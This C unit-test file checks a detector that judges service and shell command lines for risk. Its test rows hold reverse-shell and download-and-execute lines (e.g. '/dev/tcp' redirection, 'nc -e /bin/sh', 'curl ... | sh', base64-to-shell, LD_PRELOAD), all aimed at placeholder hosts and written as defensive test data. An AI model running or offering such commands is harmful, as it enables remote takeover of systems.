/* SPDX-License-Identifier: Apache-2.0 */
#include "check/command.h"
#include "trial.h"

static int setup(void **state)
{
	static const char *const directories[] = {
		"usr", "usr/bin", "usr/local", "usr/local/bin", "opt", "tmp", "home", "home/u",
	};
	static const char *const programs[] = {
		"usr/bin/sh", "usr/bin/curl", "usr/bin/python3", "usr/bin/true", "opt/loose",
	};
	struct trial *trial;

	if (trial_setup(state) != 0)
		return -1;
	trial = *state;
	for (size_t i = 0; i < ELEMENTS(directories); i++)
		tree_directory(trial->root, directories[i]);
	for (size_t i = 0; i < ELEMENTS(programs); i++)
		tree_bytes(trial->root, programs[i],
			   "\x7f"
			   "ELF\0",
			   5);
	tree_link(trial->root, "bin", "usr/bin");
	tree_mode(trial->root, "opt/loose", 0777);
	trial_seal(trial, "");
	tree_file(trial->root, "usr/local/bin/new", "#!/bin/sh\necho\n");
	tree_file(trial->root, "usr/bin/planted", "#!/bin/sh -e\nwget -qO- x | sh\n");
	tree_file(trial->root, "usr/bin/pyplant",
		  "#!/usr/bin/env python3\nimport socket, os\nos.dup2(1, 2)\n");
	tree_file(trial->root, "home/u/x", "#!/bin/sh\n");
	return 0;
}

struct row {
	enum words_syntax syntax;
	const char *text;
	unsigned judged;
	const char *programs; /* each followed by a blank */
};

#define U JUDGED_UNVOUCHED
#define T JUDGED_TEMPORARY
#define D JUDGED_DOWNLOAD
#define S JUDGED_SOCKET
#define M JUDGED_MISSING

static const struct row rows[] = {
	/* systemd's */
	{WORDS_EXEC, "/usr/bin/true --x", 0, "/usr/bin/true "},
	{WORDS_EXEC, "-/bin/true", 0, "/bin/true "},
	{WORDS_EXEC, "@!!/bin/true /tmp/name -x", 0, "/bin/true "},
	{WORDS_EXEC, "true", 0, "/usr/bin/true "},
	{WORDS_EXEC, "/usr/local/bin/new", U, "/usr/local/bin/new "},
	{WORDS_EXEC, "/bin/true ; /usr/local/bin/new", U, "/bin/true /usr/local/bin/new "},
	{WORDS_EXEC, "/bin/true a;b /tmp/x", 0, "/bin/true "},
	{WORDS_EXEC, "\"/usr/local/bin/new\" x", U, "/usr/local/bin/new "},
	{WORDS_EXEC, "\\x2ftmp\\057x", T | M, "/tmp/x "},
	{WORDS_EXEC, "/bin/sh -c '/usr/local/bin/new x'", U, "/bin/sh /usr/local/bin/new "},
	{WORDS_EXEC, "/usr/bin/env A=b -u X nice -n 5 /usr/local/bin/new", U,
	 "/usr/bin/env /usr/local/bin/new "},
	{WORDS_EXEC, "/usr/bin/env LD_PRELOAD=/x.so /bin/true", JUDGED_PRELOAD | M,
	 "/usr/bin/env /bin/true "},
	{WORDS_EXEC, "/bin/sh -lc \"exec /tmp/x\"", T | M, "/bin/sh /tmp/x "},
	{WORDS_EXEC, "/bin/touch /tmp/x", M, "/bin/touch "},
	{WORDS_EXEC, "/opt/loose", JUDGED_WRITABLE, "/opt/loose "},
	{WORDS_EXEC, "/opt/.x/y", JUDGED_HIDDEN | M, "/opt/.x/y "},
	{WORDS_EXEC, "/tmp/env /bin/true", T | M, "/tmp/env /bin/true "},
	{WORDS_EXEC, "/dev/shm/x", T | M, "/dev/shm/x "},
	{WORDS_EXEC, "/home/u/x", U | JUDGED_HOME, "/home/u/x "},
	{WORDS_EXEC, "/home/u/.local/bin/x", JUDGED_HOME | M, "/home/u/.local/bin/x "},
	{WORDS_EXEC, "/usr/bin/python3 /usr/local/bin/new", U,
	 "/usr/bin/python3 /usr/local/bin/new "},
	{WORDS_EXEC, "/usr/bin/python3 -c 'import socket,pty;pty.spawn(\"sh\")'", S,
	 "/usr/bin/python3 "},
	{WORDS_EXEC, "/usr/bin/planted", U | D, "/usr/bin/planted /usr/bin/sh "},
	{WORDS_EXEC, "/usr/bin/pyplant", U | S, "/usr/bin/pyplant "},
	{WORDS_EXEC, "", 0, ""},
	{WORDS_EXEC, "-", 0, ""},
	{WORDS_EXEC, "@", 0, ""},

	/* a shell's */
	{WORDS_SHELL, "curl -s http://x | sh", D, "/usr/bin/curl /usr/bin/sh "},
	{WORDS_SHELL, "curl x | tee /x | sudo bash -s -- a", D, "/usr/bin/curl "},
	{WORDS_SHELL, "curl -o /tmp/f x; chmod +x /tmp/f", D, "/usr/bin/curl "},
	{WORDS_SHELL, "wget -qO /opt/f x && sh /opt/f", D | M, "/usr/bin/sh /opt/f "},
	{WORDS_SHELL, "curl x > /opt/f; /opt/f", D | M, "/usr/bin/curl /opt/f "},
	{WORDS_SHELL, "bash -c \"$(curl -fsSL x)\"", D, "/usr/bin/curl "},
	{WORDS_SHELL, "bash <(curl -s x)", D, "/usr/bin/curl "},
	{WORDS_SHELL, "eval `wget -O- x`", D, ""},
	{WORDS_SHELL, "echo aGk= | base64 -d | sh", D, "/usr/bin/sh "},
	{WORDS_SHELL, "sh -i >& /dev/tcp/10.0.0.1/4 0>&1", S, "/usr/bin/sh "},
	{WORDS_SHELL, "nc -e /bin/sh 10.0.0.1 4", S, ""},
	{WORDS_SHELL, "sh -i 2>&1 </x | nc 10.0.0.1 4 >/x", S, "/usr/bin/sh "},
	{WORDS_SHELL, "socat tcp:h:1 EXEC:sh", S, ""},
	{WORDS_SHELL, "echo x | nc 10.0.0.1 4", 0, ""},
	{WORDS_SHELL, "curl -s x | grep y > /tmp/z", 0, "/usr/bin/curl "},
	{WORDS_SHELL, "curl x; sh /usr/local/bin/new", U,
	 "/usr/bin/curl /usr/bin/sh /usr/local/bin/new "},
	{WORDS_SHELL, "# /tmp/x\necho '/tmp/y'; true # /tmp/z", 0, "/usr/bin/true "},
	{WORDS_SHELL, "if test -x /tmp/a; then /tmp/x & fi", T | M, "/tmp/x "},
	{WORDS_SHELL, "cat <<EOF >/x\n/tmp/x\nEOF\ntrue", 0, "/usr/bin/true "},
	{WORDS_SHELL, "X=$(/tmp/x) Y=1 true", T | M, "/usr/bin/true /tmp/x "},
	{WORDS_SHELL, "export LD_PRELOAD=/x", JUDGED_PRELOAD, ""},
	{WORDS_SHELL, "export LD_PRELOAD=/usr/bin/true", 0, ""},
	{WORDS_SHELL, "LD_PRELOAD=\"/usr/bin/true /usr/local/bin/new\" true", JUDGED_PRELOAD,
	 "/usr/bin/true "},
	{WORDS_SHELL, "LD_PRELOAD=libnone.so true", JUDGED_PRELOAD, "/usr/bin/true "},
	{WORDS_SHELL, "LD_LIBRARY_PATH=/opt/x/lib true", 0, "/usr/bin/true "},
	{WORDS_SHELL, "LD_LIBRARY_PATH=/opt:/tmp/x true", JUDGED_PRELOAD, "/usr/bin/true "},
	{WORDS_SHELL, "curl x | python3 -m json.tool", 0, "/usr/bin/curl /usr/bin/python3 "},
	{WORDS_SHELL, "curl x | python3 -c 'import json'", 0, "/usr/bin/curl /usr/bin/python3 "},
	{WORDS_SHELL, "curl x | python3 -", D, "/usr/bin/curl /usr/bin/python3 "},
	{WORDS_SHELL, "sh /usr/bin/true | nc h 1", 0, "/usr/bin/sh /usr/bin/true "},
	{WORDS_SHELL, "sh -o pipefail /opt/loose", JUDGED_WRITABLE, "/usr/bin/sh /opt/loose "},
	{WORDS_EXEC, "/opt/app/.venv/bin/python", M, "/opt/app/.venv/bin/python "},
	{WORDS_SHELL, ". /usr/local/bin/new", U, "/usr/local/bin/new "},
	{WORDS_SHELL, "su - u -c '/tmp/x y'", T | M, "/tmp/x "},
	{WORDS_SHELL, "find / -exec /tmp/x {} +", T | M, "/tmp/x "},
	{WORDS_SHELL, "/opt/\\\nloose", JUDGED_WRITABLE, "/opt/loose "},
	{WORDS_SHELL, "/usr/bin/tr''ue", 0, "/usr/bin/true "},
	{WORDS_SHELL, "$(((((", 0, ""},
	{WORDS_SHELL, "'\"`\\", 0, ""},

	/* the others' */
	{WORDS_PLAIN, "/bin/sh -c 'nohup /tmp/x&'", T | M, "/bin/sh /tmp/x "},
	{WORDS_PLAIN, "/usr/local/bin/new %k ; /tmp/x", U, "/usr/local/bin/new "},
};

static void check_row(struct command_judge *judge, const struct row *row)
{
	_cleanup_command_ struct command command = {};
	_cleanup_buffer_ struct buffer programs = {};

	assert_int_equal(
		command_judge_line(judge, row->text, strlen(row->text), row->syntax, &command), 0);
	assert_int_equal(buffer_append_text(&programs, ""), 0);
	for (size_t i = 0; i < command.count; i++)
		assert_int_equal(buffer_printf(&programs, "%s ", command.programs[i].path), 0);
	if ((command.judged & ~JUDGED_MISSING) != (row->judged & ~JUDGED_MISSING))
		fail_msg("%s: %#x, expected %#x", row->text, command.judged, row->judged);
	if (strcmp(programs.data, row->programs) != 0)
		fail_msg("%s: \"%s\", expected \"%s\"", row->text, programs.data, row->programs);
	assert_false(command.limited);
}

static void test_lines(void **state)
{
	struct trial *trial = *state;
	_cleanup_comparison_ struct comparison comparison = {};
	_cleanup_suspects_ struct suspects suspects = {};
	_cleanup_close_ int fd = root_open(trial->root);
	struct command_judge judge = {.root_fd = fd, .suspects = &suspects};

	trial_compare(trial, PHASE_IMAGE, &comparison);
	assert_int_equal(suspects_init(&comparison, &suspects), 0);
	for (size_t i = 0; i < ELEMENTS(rows); i++)
		check_row(&judge, &rows[i]);
}

static void test_places(void **state)
{
	static const struct {
		const char *path;
		unsigned judged;
	} places[] = {
		{"/usr/bin/x", 0},
		{"/tmp/x", T},
		{"/var/tmp/.x", T | JUDGED_HIDDEN},
		{"/tmpx/x", 0},
		{"/usr/lib/... /x", JUDGED_HIDDEN},
		{"/usr/lib/.../x", JUDGED_HIDDEN},
		{"/usr/./../x", 0},
		{"/usr/bin/ ", JUDGED_HIDDEN},
		{"/root/.local/bin/x", 0},
		{"/root/.local", JUDGED_HIDDEN},
		{"/root/.x/y", JUDGED_HIDDEN},
		{"~/.config/y", JUDGED_HOME},
		{"", 0},
	};

	(void)state;
	for (size_t i = 0; i < ELEMENTS(places); i++)
		if (command_judge_place(places[i].path) != places[i].judged)
			fail_msg("%s: %#x", places[i].path, command_judge_place(places[i].path));
}

/* Texts made to be endless or to be inside each other cost what the limits allow. */
static void test_limits(void **state)
{
	static const char *const pieces[] = {
		"$(", "`", "sh -c '", "\"", "(((", "/bin/x;", "eval $(", "<<E\n", "a=b ", "\\",
	};
	struct trial *trial = *state;
	const struct difference *none[1] = {};
	struct suspects suspects = {.by_path = none};
	_cleanup_close_ int fd = root_open(trial->root);
	struct command_judge judge = {.root_fd = fd, .suspects = &suspects};
	size_t size = 1 << 20;
	_cleanup_free_ char *text = malloc(size);

	assert_non_null(text);
	for (size_t i = 0; i < ELEMENTS(pieces); i++) {
		size_t length = strlen(pieces[i]);
		_cleanup_command_ struct command command = {};

		for (size_t k = 0; k < size; k++)
			text[k] = pieces[i][k % length];
		assert_int_equal(command_judge_line(&judge, text, size, WORDS_SHELL, &command), 0);
		assert_true(command.limited);
		assert_true(command.count <= COMMAND_PROGRAMS_MAX);
	}
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, trial_teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(test_lines),
		cmocka_unit_test(test_places),
		TEST(test_limits),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
